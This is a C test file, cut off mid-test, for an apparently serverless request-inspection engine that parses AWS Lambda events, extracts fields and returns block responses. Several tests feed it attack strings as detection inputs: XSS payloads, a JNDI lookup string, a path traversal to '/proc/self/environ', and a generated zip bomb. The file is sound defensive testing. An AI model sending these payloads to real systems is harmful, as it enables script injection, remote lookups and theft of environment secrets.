/* The inspection engine: JSON parsing, source classification, extraction
 * with field paths and decodings, limits, verdicts, block responses, policy
 * files. Extraction is tested with a phrase rule ("vigilmarker") so that the
 * expected findings do not depend on any detector's judgement. */
#include <check.h>
#include <pthread.h>
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <zlib.h>

#include "json.h"
#include "pol-private.h"
#include "pol.h"
#include "pol_test.h"

static const char *corpora(void)
{
	const char *c = getenv("VIGIL_CORPORA");
	return c ? c : "../shared/corpora";
}

static char *read_file(const char *path, size_t *n)
{
	FILE *f = fopen(path, "rb");
	if (!f)
		return NULL;
	fseek(f, 0, SEEK_END);
	long len = ftell(f);
	fseek(f, 0, SEEK_SET);
	char *s = malloc((size_t)len + 1);
	*n = fread(s, 1, (size_t)len, f);
	s[*n] = '\0';
	fclose(f);
	return s;
}

static const char marker_policy[] =
    "{\n"
    "  \"rules\": [{\"id\": \"test.marker\", \"category\": \"sqli\", \"severity\": \"critical\",\n"
    "              \"confidence\": 100, \"phrases\": [\"vigilmarker\", \"vigil marker\"]}]\n"
    "}\n";

static struct pol_engine *marker_engine(enum pol_mode mode)
{
	const char *p = ptest_write_tmp("marker.json", marker_policy);
	struct pol_engine *e;
	char err[256];
	ck_assert_msg(pol_engine_new(&e, &p, 1, mode, err, sizeof(err)) == 0, "%s", err);
	return e;
}

/* Inspects ev; returns the path of the marker finding (or "" when none). */
static char found_path[600];
static enum pol_source found_src;

static const char *marker_path(const struct pol_engine *e, const char *ev)
{
	struct pol_result *r;
	ck_assert_int_eq(pol_inspect(e, ev, strlen(ev), &r), 0);
	found_path[0] = '\0';
	found_src = pol_result_source(r);
	for (size_t i = 0; i < pol_result_count(r); i++) {
		const struct pol_finding *f = pol_result_finding(r, i);
		if (strcmp(f->rule, "test.marker") == 0) {
			snprintf(found_path, sizeof(found_path), "%s", f->path);
			break;
		}
	}
	pol_result_free(r);
	return found_path;
}

static char *b64(const char *s, size_t n)
{
	static const char t[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char *o = malloc(n / 3 * 4 + 5), *p = o;
	size_t i = 0;
	for (; i + 2 < n; i += 3) {
		unsigned v = (unsigned char)s[i] << 16 | (unsigned char)s[i + 1] << 8 |
		             (unsigned char)s[i + 2];
		*p++ = t[v >> 18];
		*p++ = t[v >> 12 & 63];
		*p++ = t[v >> 6 & 63];
		*p++ = t[v & 63];
	}
	if (i < n) {
		unsigned v =
		    (unsigned char)s[i] << 16 | (i + 1 < n ? (unsigned char)s[i + 1] << 8 : 0);
		*p++ = t[v >> 18];
		*p++ = t[v >> 12 & 63];
		*p++ = i + 1 < n ? t[v >> 6 & 63] : '=';
		*p++ = '=';
	}
	*p = '\0';
	return o;
}

static char *gzip_b64(const char *s)
{
	unsigned char out[4096];
	z_stream z = {0};
	ck_assert_int_eq(deflateInit2(&z, 6, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY), Z_OK);
	z.next_in = (unsigned char *)(uintptr_t)s;
	z.avail_in = (unsigned)strlen(s);
	z.next_out = out;
	z.avail_out = sizeof(out);
	ck_assert_int_eq(deflate(&z, Z_FINISH), Z_STREAM_END);
	size_t n = sizeof(out) - z.avail_out;
	deflateEnd(&z);
	return b64((char *)out, n);
}

/* ---- JSON ---- */

START_TEST(json_testsuite)
{
	char dir[512];
	snprintf(dir, sizeof(dir), "%s/JSONTestSuite/test_parsing", corpora());
	DIR *d = opendir(dir);
	ck_assert_msg(d != NULL, "no JSONTestSuite at %s", dir);
	struct dirent *e;
	int yes = 0, no = 0;
	while ((e = readdir(d))) {
		char kind = e->d_name[0];
		if ((kind != 'y' && kind != 'n') || e->d_name[1] != '_')
			continue;
		char path[1024];
		size_t n;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		char *s = read_file(path, &n);
		ck_assert_ptr_nonnull(s);
		struct pol_json j;
		int r = pol_json_parse(&j, s, n);
		pol_json_fini(&j);
		free(s);
		if (kind == 'y')
			ck_assert_msg(r == 0, "%s must parse", e->d_name);
		else
			ck_assert_msg(r == -EINVAL, "%s must be refused", e->d_name);
		kind == 'y' ? yes++ : no++;
	}
	closedir(d);
	ck_assert_int_gt(yes, 90);
	ck_assert_int_gt(no, 180);
}
END_TEST

START_TEST(json_paths_and_escapes)
{
	const char s[] = "{\"a\":[1,{\"b\\u00e9\":\"x\\ny\"}],\"c\":true}";
	struct pol_json j;
	ck_assert_int_eq(pol_json_parse(&j, s, sizeof(s) - 1), 0);
	ck_assert_int_eq(j.nodes[0].type, POL_J_OBJ);
	ck_assert_uint_eq(j.nodes[0].count, 2);
	int64_t a = pol_json_get(&j, 0, "a");
	ck_assert_int_ge(a, 0);
	ck_assert_uint_eq(j.nodes[a].count, 2);
	int64_t o = pol_json_get(&j, (uint32_t)a + 2, "b\xc3\xa9");
	ck_assert_int_ge(o, 0);
	ck_assert_uint_eq(j.nodes[o].len, 3);
	ck_assert(memcmp(j.nodes[o].str, "x\ny", 3) == 0);
	ck_assert_int_eq(j.nodes[pol_json_get(&j, 0, "c")].type, POL_J_TRUE);
	pol_json_fini(&j);

	/* never reads past n: a value cut short is an error, not a read */
	char *cut = malloc(5);
	memcpy(cut, "[123", 4);
	ck_assert_int_eq(pol_json_parse(&j, cut, 4), -EINVAL);
	pol_json_fini(&j);
	free(cut);
}
END_TEST

START_TEST(json_deep_nesting_is_iterative)
{
	size_t n = 200000;
	char *s = malloc(2 * n);
	memset(s, '[', n);
	memset(s + n, ']', n);
	struct pol_json j;
	ck_assert_int_eq(pol_json_parse(&j, s, 2 * n), 0);
	ck_assert_uint_eq(j.n, n);
	pol_json_fini(&j);
	free(s);
}
END_TEST

/* ---- sources ---- */

START_TEST(sources_of_sample_events)
{
	static const struct {
		const char *file, *source;
	} cases[] = {
	    {"aws-lambda-go/events/testdata/apigw-request.json", "apigw-v1"},
	    {"aws-lambda-go/events/testdata/apigw-v2-request-iam.json", "apigw-v2"},
	    {"aws-lambda-go/events/testdata/lambda-urls-request.json", "function-url"},
	    {"aws-lambda-go/events/testdata/alb-lambda-target-request-headers-only.json", "alb"},
	    {"aws-lambda-go/events/testdata/apigw-custom-auth-request.json", "apigw-authorizer"},
	    {"aws-lambda-go/events/testdata/apigw-v2-custom-authorizer-v2-request.json",
	     "apigw-authorizer"},
	    {"aws-lambda-go/events/testdata/apigw-websocket-request.json", "apigw-websocket"},
	    {"aws-lambda-go/events/testdata/sqs-event.json", "sqs"},
	    {"aws-lambda-go/events/testdata/sns-event.json", "sns"},
	    {"aws-lambda-go/events/testdata/s3-event.json", "s3"},
	    {"aws-lambda-go/events/testdata/dynamodb-event.json", "dynamodb"},
	    {"aws-lambda-go/events/testdata/kinesis-event.json", "kinesis"},
	    {"powertools-lambda-python/tests/events/eventBridgeEvent.json", "eventbridge"},
	    {"aws-lambda-go/events/testdata/cognito-event-userpools-presignup.json", "cognito"},
	    {"powertools-lambda-python/tests/events/appSyncResolverEvent.json", "appsync"},
	    {"powertools-lambda-python/tests/events/appSyncBatchEvent.json", "appsync"},
	    {"aws-lambda-go/events/testdata/kafka-event.json", "msk"},
	    {"aws-lambda-go/events/testdata/cloudwatch-logs-event.json", "cloudwatch-logs"},
	    {"aws-lambda-go/events/testdata/config-event.json", "unknown"},
	};
	struct pol_engine *e;
	ck_assert_int_eq(pol_engine_new(&e, NULL, 0, POL_MODE_MONITOR, NULL, 0), 0);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char path[512];
		size_t n;
		snprintf(path, sizeof(path), "%s/%s", corpora(), cases[i].file);
		char *s = read_file(path, &n);
		ck_assert_msg(s != NULL, "missing %s", path);
		struct pol_result *r;
		ck_assert_int_eq(pol_inspect(e, s, n, &r), 0);
		ck_assert_msg(strcmp(pol_source_name(pol_result_source(r)), cases[i].source) == 0,
		              "%s: %s, want %s", cases[i].file,
		              pol_source_name(pol_result_source(r)), cases[i].source);
		ck_assert_int_eq(pol_result_verdict(r), POL_PASS);
		pol_result_free(r);
		free(s);
	}
	pol_engine_free(e);
}
END_TEST

/* ---- extraction ---- */

START_TEST(extract_http_fields)
{
	struct pol_engine *e = marker_engine(POL_MODE_MONITOR);
	ck_assert_str_eq(
	    marker_path(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
	                   "\"queryStringParameters\":{\"q\":\"a vigilmarker\"}}"),
	    "queryStringParameters.q");
	ck_assert_int_eq(found_src, POL_SRC_APIGW_V1);
	/* multi-value: only values the single map does not already show */
	ck_assert_str_eq(
	    marker_path(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
	                   "\"queryStringParameters\":{\"q\":\"b\"},"
	                   "\"multiValueQueryStringParameters\":{\"q\":[\"a\",\"vigilmarker\"]}}"),
	    "multiValueQueryStringParameters.q[1]");
	/* a key is an input too */
	ck_assert_str_eq(
	    marker_path(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
	                   "\"queryStringParameters\":{\"vigilmarker\":\"1\"}}"),
	    "queryStringParameters.vigilmarker");
	/* cookies: the header split into names */
	ck_assert_str_eq(
	    marker_path(e, "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
	                   "\"headers\":{\"Cookie\":\"a=b; sid=vigil%6darker\"}}"),
	    "headers.Cookie>sid");
	ck_assert_str_eq(
	    marker_path(e, "{\"version\":\"2.0\",\"routeKey\":\"$default\",\"rawPath\":\"/\","
	                   "\"cookies\":[\"x=1\",\"y=vigilmarker\"],"
	                   "\"requestContext\":{\"http\":{\"method\":\"GET\"}}}"),
	    "cookies[1]>y");
	ck_assert_int_eq(found_src, POL_SRC_APIGW_V2);
	/* ALB leaves the query encoded; the handler decodes it */
	ck_assert_str_eq(
	    marker_path(e, "{\"httpMethod\":\"GET\",\"path\":\"/\",\"requestContext\":{\"elb\":{}},"
	                   "\"queryStringParameters\":{\"q\":\"vigil%20marker\"}}"),
	    "queryStringParameters.q");
	ck_assert_int_eq(found_src, POL_SRC_ALB);
	/* the path, percent-decoded */
	ck_assert_str_eq(
	    marker_path(e, "{\"version\":\"2.0\",\"routeKey\":\"$default\","
	                   "\"rawPath\":\"/files/vigil%6Darker\",\"requestContext\":{"
	                   "\"domainName\":\"abc.lambda-url.us-east-1.on.aws\",\"http\":{}}}"),
	    "rawPath");
	ck_assert_int_eq(found_src, POL_SRC_FUNCTION_URL);
	pol_engine_free(e);
}
END_TEST

START_TEST(extract_bodies)
{
	struct pol_engine *e = marker_engine(POL_MODE_MONITOR);
	char ev[2048];
	const char *json = "{\"user\":{\"name\":\"vigilmarker\"}}";
	char *enc = b64(json, strlen(json));
	snprintf(ev, sizeof(ev),
	         "{\"version\":\"2.0\",\"routeKey\":\"POST "
	         "/\",\"rawPath\":\"/\",\"requestContext\":{\"http\":{}},"
	         "\"body\":\"%s\",\"isBase64Encoded\":true}",
	         enc);
	free(enc);
	ck_assert_str_eq(marker_path(e, ev), "body>$.user.name");
	ck_assert_str_eq(
	    marker_path(e, "{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
	                   "\"headers\":{\"content-type\":\"application/x-www-form-urlencoded\"},"
	                   "\"body\":\"a=1&name=vigil+marker\"}"),
	    "body>name");
	ck_assert_str_eq(
	    marker_path(
	        e,
	        "{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
	        "\"headers\":{\"Content-Type\":\"multipart/form-data; boundary=XyZ\"},"
	        "\"body\":\"--XyZ\\r\\nContent-Disposition: form-data; name=\\\"a\\\"\\r\\n\\r\\n"
	        "hello\\r\\n--XyZ\\r\\nContent-Disposition: form-data; name=\\\"bio\\\"\\r\\n\\r\\n"
	        "I am vigilmarker\\r\\n--XyZ--\\r\\n\"}"),
	    "body>bio");
	ck_assert_str_eq(
	    marker_path(e, "{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
	                   "\"body\":\"[{\\\"a\\\":[\\\"x\\\",\\\"vigilmarker\\\"]}]\"}"),
	    "body>$[0].a[1]");
	/* plain text stays whole */
	ck_assert_str_eq(
	    marker_path(e, "{\"httpMethod\":\"POST\",\"resource\":\"/\",\"requestContext\":{},"
	                   "\"body\":\"just vigilmarker\"}"),
	    "body");
	pol_engine_free(e);
}
END_TEST

START_TEST(extract_queues_and_streams)
{
	struct pol_engine *e = marker_engine(POL_MODE_MONITOR);
	/* SNS inside SQS: JSON in a JSON string in a JSON string */
	ck_assert_str_eq(
	    marker_path(
	        e, "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"x\"},"
	           "{\"eventSource\":\"aws:sqs\",\"body\":\"x\"},"
	           "{\"eventSource\":\"aws:sqs\",\"body\":\"{\\\"Type\\\":\\\"Notification\\\","
	           "\\\"TopicArn\\\":\\\"arn:aws:sns:x\\\",\\\"Message\\\":\\\"{\\\\\\\"q\\\\\\\":"
	           "\\\\\\\"vigilmarker\\\\\\\"}\\\"}\"}]}"),
	    "Records[2].body>Message>$.q");
	ck_assert_int_eq(found_src, POL_SRC_SQS);
	ck_assert_str_eq(
	    marker_path(e, "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"x\","
	                   "\"messageAttributes\":{\"a\":{\"stringValue\":\"vigilmarker\"}}}]}"),
	    "Records[0].messageAttributes.a.stringValue");
	ck_assert_str_eq(marker_path(e, "{\"Records\":[{\"EventSource\":\"aws:sns\",\"Sns\":{"
	                                "\"Message\":\"vigilmarker\"}}]}"),
	                 "Records[0].Sns.Message");
	/* S3 keys: '+' is a space */
	ck_assert_str_eq(
	    marker_path(e, "{\"Records\":[{\"eventSource\":\"aws:s3\",\"s3\":{\"object\":{"
	                   "\"key\":\"uploads/vigil+marker.txt\"}}}]}"),
	    "Records[0].s3.object.key");
	/* DynamoDB typed values: type letters are not in the path */
	ck_assert_str_eq(
	    marker_path(e, "{\"Records\":[{\"eventSource\":\"aws:dynamodb\",\"dynamodb\":{"
	                   "\"NewImage\":{\"doc\":{\"M\":{\"tags\":{\"L\":[{\"S\":\"a\"},"
	                   "{\"S\":\"vigilmarker\"}]}}}}}}]}"),
	    "Records[0].dynamodb.NewImage.doc.tags[1]");
	char ev[4096];
	const char *doc = "{\"q\":\"vigilmarker\"}";
	char *enc = b64(doc, strlen(doc));
	snprintf(ev, sizeof(ev),
	         "{\"Records\":[{\"eventSource\":\"aws:kinesis\",\"kinesis\":{\"data\":\"%s\"}}]}",
	         enc);
	ck_assert_str_eq(marker_path(e, ev), "Records[0].kinesis.data>$.q");
	snprintf(ev, sizeof(ev),
	         "{\"eventSource\":\"aws:kafka\",\"records\":{\"t-0\":[{\"key\":\"eA==\",\"value\":"
	         "\"%s\"}]}}",
	         enc);
	ck_assert_str_eq(marker_path(e, ev), "records.t-0[0].value>$.q");
	ck_assert_int_eq(found_src, POL_SRC_MSK);
	free(enc);
	enc = gzip_b64("{\"logGroup\":\"g\",\"logEvents\":[{\"id\":\"1\",\"message\":\"ok\"},"
	               "{\"id\":\"2\",\"message\":\"GET /?q=vigilmarker\"}]}");
	snprintf(ev, sizeof(ev), "{\"awslogs\":{\"data\":\"%s\"}}", enc);
	free(enc);
	ck_assert_str_eq(marker_path(e, ev), "awslogs.data>logEvents[1].message");
	ck_assert_str_eq(
	    marker_path(
	        e,
	        "{\"source\":\"app\",\"detail-type\":\"x\",\"detail\":{\"a\":[\"vigilmarker\"]}}"),
	    "detail.a[0]");
	ck_assert_str_eq(
	    marker_path(e, "{\"triggerSource\":\"PreSignUp_SignUp\",\"userPoolId\":\"p\","
	                   "\"request\":{\"userAttributes\":{\"name\":\"vigilmarker\"}}}"),
	    "request.userAttributes.name");
	ck_assert_str_eq(
	    marker_path(e,
	                "{\"arguments\":{\"id\":\"vigilmarker\"},\"info\":{\"fieldName\":\"f\"}}"),
	    "arguments.id");
	ck_assert_int_eq(found_src, POL_SRC_APPSYNC);
	/* unknown: every string and key */
	ck_assert_str_eq(marker_path(e, "{\"a\":{\"b\":[0,{\"c\":\"vigilmarker\"}]}}"), "a.b[1].c");
	ck_assert_int_eq(found_src, POL_SRC_UNKNOWN);
	pol_engine_free(e);
}
END_TEST

/* ---- limits ---- */

static int has_rule(const struct pol_result *r, const char *rule)
{
	for (size_t i = 0; i < pol_result_count(r); i++)
		if (strcmp(pol_result_finding(r, i)->rule, rule) == 0)
			return 1;
	return 0;
}

START_TEST(limits_are_reported_and_inspection_goes_on)
{
	struct pol_engine *e = marker_engine(POL_MODE_BLOCK);
	/* 100 levels deep (limit 64), a marker at the bottom, one after */
	char ev[4096] = "";
	for (int i = 0; i < 100; i++)
		strcat(ev, "{\"a\":");
	strcat(ev, "\"vigilmarker\"");
	for (int i = 0; i < 100; i++)
		strcat(ev, "}");
	struct pol_result *r;
	ck_assert_int_eq(pol_inspect(e, ev, strlen(ev), &r), 0);
	ck_assert(has_rule(r, "limit.depth"));
	ck_assert(has_rule(r, "test.marker"));
	ck_assert_int_eq(pol_result_verdict(r), POL_BLOCK);
	pol_result_free(r);
	pol_engine_free(e);

	/* a limit alone flags the event but never blocks it */
	const char *p =
	    ptest_write_tmp("small.json", "{\"limits\":{\"event_bytes\":1024,\"strings\":3}}");
	char err[256];
	ck_assert_int_eq(pol_engine_new(&e, &p, 1, POL_MODE_BLOCK, err, sizeof(err)), 0);
	char big[2048];
	memset(big, ' ', sizeof(big));
	memcpy(big, "[\"a\",\"b\",\"c\",\"d\",\"e\"]", 21);
	ck_assert_int_eq(pol_inspect(e, big, sizeof(big), &r), 0);
	ck_assert(has_rule(r, "limit.event_bytes"));
	ck_assert(has_rule(r, "limit.strings"));
	ck_assert_int_eq(pol_result_verdict(r), POL_ALERT);
	pol_result_free(r);
	pol_engine_free(e);

	/* too many values for a tree: reported, and the raw text still seen */
	/* ptest_write_tmp reuses its buffer: keep each path */
	char *pp[] = {strdup(ptest_write_tmp("marker2.json", marker_policy)),
	              strdup(ptest_write_tmp("nodes.json", "{\"limits\":{\"nodes\":1000}}"))};
	ck_assert_int_eq(
	    pol_engine_new(&e, (const char *const *)pp, 2, POL_MODE_BLOCK, err, sizeof(err)), 0);
	free(pp[0]);
	free(pp[1]);
	struct vg_buf many = VG_BUF_INIT(1 << 20);
	vg_buf_putc(&many, '[');
	for (int i = 0; i < 3000; i++)
		vg_buf_puts(&many, "1,");
	vg_buf_puts(&many, "\"vigilmarker\"]");
	ck_assert_int_eq(pol_inspect(e, many.data, many.len, &r), 0);
	ck_assert(has_rule(r, "limit.nodes"));
	ck_assert(has_rule(r, "test.marker"));
	ck_assert_int_eq(pol_result_verdict(r), POL_BLOCK);
	pol_result_free(r);
	vg_buf_fini(&many);
	pol_engine_free(e);

	/* the time budget: the event passes, flagged */
	const char *bp[] = {ptest_write_tmp("budget.json", "{\"limits\":{\"budget_us\":10}}")};
	ck_assert_int_eq(pol_engine_new(&e, bp, 1, POL_MODE_BLOCK, err, sizeof(err)), 0);
	struct vg_buf slow = VG_BUF_INIT(1 << 22);
	vg_buf_putc(&slow, '[');
	for (int i = 0; i < 20000; i++)
		vg_buf_puts(&slow, "\"Mary O'Brien, please select the blue one (or the red).\",");
	vg_buf_puts(&slow, "\"${jndi:ldap://e/a}\"]");
	ck_assert_int_eq(pol_inspect(e, slow.data, slow.len, &r), 0);
	ck_assert(pol_result_budget_exhausted(r));
	ck_assert(has_rule(r, "limit.time_budget"));
	ck_assert(!has_rule(r, "jndi.lookup")); /* never reached */
	ck_assert_int_eq(pol_result_verdict(r), POL_ALERT);
	pol_result_free(r);
	vg_buf_fini(&slow);
	pol_engine_free(e);
}
END_TEST

/* ---- the budget on long inputs ---- */

/* Appends n bytes of benign prose, different at every place (a fixed
 * pseudo-random walk over plain words), so that nothing repeats. */
static void put_prose(struct vg_buf *b, size_t n, uint32_t seed)
{
	static const char *const words[] = {
	    "river",  "stone", "garden",  "morning", "light",  "paper",  "window", "quiet",
	    "yellow", "bread", "harbour", "letter",  "winter", "candle", "meadow", "tower",
	};
	size_t start = b->len;
	uint32_t x = seed | 1;
	while (b->len - start < n) {
		x ^= x << 13;
		x ^= x >> 17;
		x ^= x << 5;
		ck_assert_int_eq(vg_buf_puts(b, words[x & 15]), 0);
		ck_assert_int_eq(vg_buf_puts(b, (x >> 8) % 11 ? " " : ". "), 0);
	}
	b->len = start + n;
	b->data[b->len - 1] = ' ';
}

static void http_event(struct vg_buf *ev, const char *head, size_t prose, const char *mid,
                       size_t prose2, const char *tail)
{
	vg_buf_puts(ev, "{\"version\":\"2.0\",\"routeKey\":\"POST /notes\",\"rawPath\":\"/notes\","
	                "\"rawQueryString\":\"\",\"headers\":{\"content-type\":\"text/plain\"},"
	                "\"requestContext\":{\"http\":{\"method\":\"POST\",\"path\":\"/notes\"}},"
	                "\"isBase64Encoded\":false,\"body\":\"");
	vg_buf_puts(ev, head);
	put_prose(ev, prose, 7);
	vg_buf_puts(ev, mid);
	put_prose(ev, prose2, 11);
	vg_buf_puts(ev, tail);
	ck_assert_int_eq(vg_buf_puts(ev, "\"}"), 0);
}

/* One string of 1 MB, then 6 MB (Lambda's whole synchronous payload), under
 * the smallest budget a policy may set: the detectors see the string's
 * first window, then the clock stops them. The event passes, flagged, with
 * what was found so far; the attack at the far end is never reached. */
START_TEST(budget_holds_on_one_long_string)
{
	const char *p = ptest_write_tmp("tiny.json", "{\"limits\":{\"budget_us\":10}}");
	char err[256];
	struct pol_engine *e;
	ck_assert_int_eq(pol_engine_new(&e, &p, 1, POL_MODE_BLOCK, err, sizeof(err)), 0);
	static const size_t sizes[] = {1u << 20, 6u << 20};
	for (size_t k = 0; k < 2; k++) {
		struct vg_buf ev = VG_BUF_INIT(8u << 20);
		http_event(&ev, "<script>alert(1)</script> ", sizes[k], "", 0,
		           " ../../../../../proc/self/environ");
		struct pol_result *r;
		ck_assert_int_eq(pol_inspect(e, ev.data, ev.len, &r), 0);
		ck_assert(pol_result_budget_exhausted(r));
		ck_assert(has_rule(r, "limit.time_budget"));
		const struct pol_finding *x = ptest_find_cat(r, POL_CAT_XSS);
		ck_assert_ptr_nonnull(x);
		ck_assert_str_eq(x->path, "body");
		ck_assert_ptr_nonnull(strstr(x->excerpt, "<script>"));
		ck_assert_ptr_null(ptest_find_cat(r, POL_CAT_PATH_TRAVERSAL));
		pol_result_free(r);
		vg_buf_fini(&ev);
	}
	pol_engine_free(e);
}
END_TEST

/* A zip bomb (9 MB of one byte in 9 KB) in a CloudWatch Logs event:
 * under a generous budget it is inflated up to the event cap and said to
 * be oversize; under the smallest budget the inflate stops at the
 * deadline, long before the cap, and the event passes, flagged. */
START_TEST(budget_holds_on_inflate)
{
	size_t n = 9u << 20;
	char *big = malloc(n);
	ck_assert_ptr_nonnull(big);
	memset(big, 'a', n);
	uLong cap = compressBound((uLong)n) + 64;
	unsigned char *gz = malloc(cap);
	z_stream z = {0};
	ck_assert_int_eq(deflateInit2(&z, 9, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY), Z_OK);
	z.next_in = (unsigned char *)big;
	z.avail_in = (uInt)n;
	z.next_out = gz;
	z.avail_out = (uInt)cap;
	ck_assert_int_eq(deflate(&z, Z_FINISH), Z_STREAM_END);
	char *enc = b64((char *)gz, cap - z.avail_out);
	deflateEnd(&z);
	free(gz);
	free(big);
	struct vg_buf ev = VG_BUF_INIT(1u << 20);
	vg_buf_puts(&ev, "{\"awslogs\":{\"data\":\"");
	vg_buf_puts(&ev, enc);
	ck_assert_int_eq(vg_buf_puts(&ev, "\"}}"), 0);
	free(enc);

	const char *p[] = {ptest_write_tmp("roomy.json", "{\"limits\":{\"budget_us\":10000000}}")};
	char err[256];
	struct pol_engine *e;
	struct pol_result *r;
	ck_assert_int_eq(pol_engine_new(&e, p, 1, POL_MODE_BLOCK, err, sizeof(err)), 0);
	ck_assert_int_eq(pol_inspect(e, ev.data, ev.len, &r), 0);
	ck_assert(has_rule(r, "limit.event_bytes"));
	ck_assert(!pol_result_budget_exhausted(r));
	pol_result_free(r);
	pol_engine_free(e);

	p[0] = ptest_write_tmp("tiny2.json", "{\"limits\":{\"budget_us\":10}}");
	ck_assert_int_eq(pol_engine_new(&e, p, 1, POL_MODE_BLOCK, err, sizeof(err)), 0);
	ck_assert_int_eq(pol_inspect(e, ev.data, ev.len, &r), 0);
	ck_assert(pol_result_budget_exhausted(r));
	ck_assert(has_rule(r, "limit.time_budget"));
	ck_assert(!has_rule(r, "limit.event_bytes"));
	ck_assert_int_eq(pol_result_verdict(r), POL_ALERT);
	pol_result_free(r);
	pol_engine_free(e);
	vg_buf_fini(&ev);
}
END_TEST

/* Long inputs are judged in overlapping windows: an attack placed across a
 * window's end is still found, with its excerpt taken from the whole
 * input; and one at the far end of a long string is found when the budget
 * allows the whole string. */
START_TEST(detection_straddles_window_boundary)
{
	static const char *const attacks[] = {
	    "<script>alert(document.cookie)</script>",
	    "<img src=x onerror=alert(1)>",
	};
	struct pol_engine *e;
	char err[256];
	/* a budget no loaded, sanitized run can exhaust: this is about windows */
	const char *p = ptest_write_tmp("slow.json", "{\"limits\":{\"budget_us\":10000000}}");
	ck_assert_int_eq(pol_engine_new(&e, &p, 1, POL_MODE_BLOCK, err, sizeof(err)), 0);
	for (size_t a = 0; a < 2; a++) {
		size_t alen = strlen(attacks[a]);
		for (size_t at = POL_WIN_BYTES - alen - 1; at <= POL_WIN_BYTES + 1; at++) {
			struct vg_buf ev = VG_BUF_INIT(1u << 20);
			/* the body starts 0 bytes into the input: "at" is its offset */
			http_event(&ev, "", at, attacks[a], POL_WIN_BYTES, "");
			struct pol_result *r;
			ck_assert_int_eq(pol_inspect(e, ev.data, ev.len, &r), 0);
			const struct pol_finding *x = ptest_find_cat(r, POL_CAT_XSS);
			ck_assert_msg(x != NULL, "attack %zu at %zu not found", a, at);
			ck_assert_msg(strstr(x->excerpt, a ? "onerror" : "<script>"),
			              "excerpt '%s' misplaced", x->excerpt);
			ck_assert(!pol_result_budget_exhausted(r));
			pol_result_free(r);
			vg_buf_fini(&ev);
		}
	}

	/* the far end of a 1 MB string */
	struct vg_buf ev = VG_BUF_INIT(2u << 20);
	http_event(&ev, "", 1u << 20, "<svg onload=alert(1)>", 100, "");
	struct pol_result *r;
	ck_assert_int_eq(pol_inspect(e, ev.data, ev.len, &r), 0);
	const struct pol_finding *x = ptest_find_cat(r, POL_CAT_XSS);
	ck_assert_ptr_nonnull(x);
	ck_assert_ptr_nonnull(strstr(x->excerpt, "onload"));
	ck_assert(!pol_result_budget_exhausted(r));
	pol_result_free(r);
	vg_buf_fini(&ev);
	pol_engine_free(e);
}
END_TEST

START_TEST(malformed_event_is_an_error_verdict)
{
	struct pol_engine *e;
	ck_assert_int_eq(pol_engine_new(&e, NULL, 0, POL_MODE_BLOCK, NULL, 0), 0);
	struct pol_result *r;
	ck_assert_int_eq(pol_inspect(e, "{\"a\":", 5, &r), 0);
	ck_assert_int_eq(pol_result_verdict(r), POL_ERROR);
	ck_assert(has_rule(r, "malformed.json"));
	pol_result_free(r);
	pol_engine_free(e);
}
END_TEST

/* ---- verdicts and block responses ---- */

static const char *block_doc(const struct pol_engine *e, const char *ev, int *http,
                             const char **type)
{
	static char out[1024];
	struct pol_result *r;
	ck_assert_int_eq(pol_inspect(e, ev, strlen(ev), &r), 0);
	ck_assert_int_eq(pol_result_verdict(r), POL_BLOCK);
	struct vg_buf b = VG_BUF_INIT(4096);
	*http = pol_block_response(r, &b, type);
	ck_assert_int_ge(*http, 0);
	snprintf(out, sizeof(out), "%s", b.data);
	vg_buf_fini(&b);
	pol_result_free(r);
	/* every refusal is itself valid JSON */
	struct pol_json j;
	ck_assert_int_eq(pol_json_parse(&j, out, strlen(out)), 0);
	pol_json_fini(&j);
	return out;
}

START_TEST(block_responses_per_source)
{
	struct pol_engine *e = marker_engine(POL_MODE_BLOCK);
	int http;
	const char *type;
	const char *d =
	    block_doc(e,
	              "{\"httpMethod\":\"GET\",\"resource\":\"/\",\"requestContext\":{},"
	              "\"queryStringParameters\":{\"q\":\"vigilmarker\"}}",
	              &http, &type);
	ck_assert_int_eq(http, 1);
	ck_assert_ptr_null(type);
	ck_assert_ptr_nonnull(strstr(d, "\"statusCode\":403"));
	d = block_doc(e,
	              "{\"httpMethod\":\"GET\",\"path\":\"/\",\"requestContext\":{\"elb\":{}},"
	              "\"multiValueHeaders\":{},\"queryStringParameters\":{\"q\":\"vigilmarker\"}}",
	              &http, &type);
	ck_assert_ptr_nonnull(strstr(d, "\"statusDescription\":\"403 Forbidden\""));
	ck_assert_ptr_nonnull(strstr(d, "\"multiValueHeaders\""));
	d = block_doc(e,
	              "{\"type\":\"TOKEN\",\"authorizationToken\":\"vigilmarker\","
	              "\"methodArn\":\"arn:aws:execute-api:r:1:a/s/GET/\"}",
	              &http, &type);
	ck_assert_int_eq(http, 1);
	ck_assert_ptr_nonnull(strstr(d, "\"Effect\":\"Deny\""));
	ck_assert_ptr_nonnull(strstr(d, "arn:aws:execute-api:r:1:a/s/GET/"));
	d = block_doc(e, "{\"Records\":[{\"eventSource\":\"aws:sqs\",\"body\":\"vigilmarker\"}]}",
	              &http, &type);
	ck_assert_int_eq(http, 0);
	ck_assert_str_eq(type, "Vigil.Blocked");
	ck_assert_ptr_nonnull(strstr(d, "\"errorType\":\"Vigil.Blocked\""));
	ck_assert_ptr_nonnull(strstr(d, "Records[0].body"));
	ck_assert_ptr_null(strstr(d, "vigilmarker")); /* never the payload */
	pol_engine_free(e);

	/* monitor mode alerts on the same event */
	e = marker_engine(POL_MODE_MONITOR);
	struct pol_result *r;
